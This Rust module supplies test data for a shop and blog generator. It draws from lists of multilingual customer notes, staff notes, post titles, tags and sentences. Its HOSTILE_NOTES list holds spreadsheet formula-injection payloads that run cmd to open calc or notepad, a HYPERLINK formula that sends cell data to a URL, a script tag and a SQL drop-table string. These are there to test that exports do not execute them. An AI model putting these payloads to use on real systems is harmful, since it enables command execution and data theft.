//! Sentences, notes and titles, as lists to draw from.

use super::random::Draw;

/// What customers write under an order.
pub(super) static NOTES: &[&str] = &[
    "Please leave the parcel with the neighbours.",
    "Ring twice, the bell is slow",
    "Leave it at the \"front desk\", not in the hall",
    "Bitte beim Nachbarn (Müller, 2. OG) abgeben – danke!",
    "C'est un cadeau 🎁 ; merci de ne pas joindre la facture",
    "Happy birthday, Zoë!\nLots of love,\nMum & Dad",
    "Deliver between 9:00 and 17:00, Mon–Fri; gate code on request",
    "留言：请放在门口，谢谢。",
    "يرجى الاتصال قبل التسليم",
    "נא להשאיר ליד הדלת, תודה",
    "配達は午後にお願いします",
    "Second floor\r\nthird door on the left\r\n\"no dog\" sign",
    "Gift wrap: yes; ribbon: blue,red",
    "Family delivery for 👩‍👩‍👧‍👦 – thanks ❤️",
    "Por favor, no llamar al timbre después de las 20 h",
    "C:\\deliveries\\today is where my scanner puts it, don't ask",
    "",
    "   call first   ",
    "50% now, 50% later_ok?",
    "Tab\tseparated\tlist\tof\twishes",
];

/// What people type to see whether an export runs it in their spreadsheet. It must not.
pub(super) static HOSTILE_NOTES: &[&str] = &[
    "=1+1",
    "@cmd",
    "+49 30 555 0100 (call me)",
    "-2+3+cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://example.com/?x=\"&A1,\"click\")",
    "=cmd|' /C notepad'!'A1'",
    "\t=SUM(A1:A9)",
    "\r=1+1",
    "＝1＋1",
    "'=1+1",
    "\"=1+1\"",
    "-",
    "=",
    "<script>alert('note')</script> &amp; ]]>",
    "'; drop table orders; --",
    "NULL",
    "Pasted from a word processor:\u{b}second line",
];

/// What the staff writes.
pub(super) static STAFF_NOTES: &[&str] = &[
    "checked by hand, address looks odd",
    "Repeat customer – waive shipping next time",
    "Chargeback risk? see ticket #4711",
    "bezahlt per Überweisung, Eingang geprüft",
    "refund agreed by phone; restock 2 of 3",
    "=see ticket",
];

/// Words for titles of posts.
pub(super) static TITLE_STARTS: &[(&str, &str)] = &[
    ("How we choose", "how-we-choose"),
    ("A short history of", "a-short-history-of"),
    ("Five things about", "five-things-about"),
    ("“Why not?” – on", "why-not-on"),
    ("Ein Loblied auf", "ein-loblied-auf"),
    ("Tout savoir sur", "tout-savoir-sur"),
    ("Behind the scenes:", "behind-the-scenes"),
    ("Letters to the editor:", "letters-to-the-editor"),
    ("新刊：", "new"),
    ("Q&A:", "q-and-a"),
];

/// The other half of titles of posts.
pub(super) static TITLE_ENDS: &[(&str, &str)] = &[
    ("tea, salt & smoke", "tea-salt-smoke"),
    ("rope", "rope"),
    ("the Skagerrak", "the-skagerrak"),
    ("Crème brûlée", "creme-brulee"),
    ("storm lamps, and how to trim them", "storm-lamps"),
    ("die Kunst des Knotens", "die-kunst-des-knotens"),
    ("l’huître", "l-huitre"),
    ("小さな港の朝", "small-harbour-morning"),
    ("<em>the</em> tide table", "the-tide-table"),
    ("navigation without a phone 📵", "navigation-without-a-phone"),
    ("old maps; new errors", "old-maps-new-errors"),
    ("Łosoś", "losos"),
];

pub(super) static CATEGORIES: &[&str] =
    &["journal", "recipes", "workshop", "news", "interviews", "Guides & how-tos"];

pub(super) static TAGS: &[&str] =
    &["sea", "salt", "knots", "tea", "weather", "maps", "handwork", "été", "日本", "gift ideas"];

static SENTENCES: &[&str] = &[
    "The tide leaves twice a day and takes nothing that is tied down.",
    "Salt keeps; so do good habits.",
    "“It is not the wind,” she said, “it is the set of the sail.”",
    "Wer den Hafen nicht kennt, für den ist kein Wind ein günstiger.",
    "We tested twelve ropes, threw away nine, and kept the three you see here.",
    "Le sel, la fumée et le temps : voilà toute la recette.",
    "Prices are in euro; 5 < 7 & 7 > 5, as our accountant likes to say.",
    "潮の香りがする朝でした。",
    "Не всё, что блестит, — латунь.",
    "Boil the water, wait until it stops moving, then count to thirty.",
    "Our lamp burns for 14½ hours on 0.4 l of oil – measured, not guessed.",
    "الصبر مفتاح الفرج.",
    "Line one of the list:\n- a knife\n- a lamp\n- a reason",
    "A chart is a promise, a tide table is a bet.",
];

/// Some sentences, `least` to `most` of them, none twice before all have come.
pub(super) fn sentences(draw: &mut Draw, least: u64, most: u64) -> String {
    /// Steps that walk through the whole list: they share no divisor with its length.
    const STEPS: [usize; 6] = [1, 3, 5, 9, 11, 13];
    let step = STEPS[draw.below(STEPS.len() as u64) as usize];
    let mut next = draw.below(SENTENCES.len() as u64) as usize;
    let mut text = String::new();
    for at in 0..draw.between(least, most) {
        if at > 0 {
            text.push_str(if at % 5 == 0 { "\n\n" } else { " " });
        }
        text.push_str(SENTENCES[next]);
        next = (next + step) % SENTENCES.len();
    }
    text
}

/// A note by a customer: mostly none, rarely one that a spreadsheet would run.
pub(super) fn note(draw: &mut Draw) -> Option<&'static str> {
    match draw.below(100) {
        0..60 => None,
        60..97 => Some(draw.pick(NOTES)),
        _ => Some(draw.pick(HOSTILE_NOTES)),
    }
}
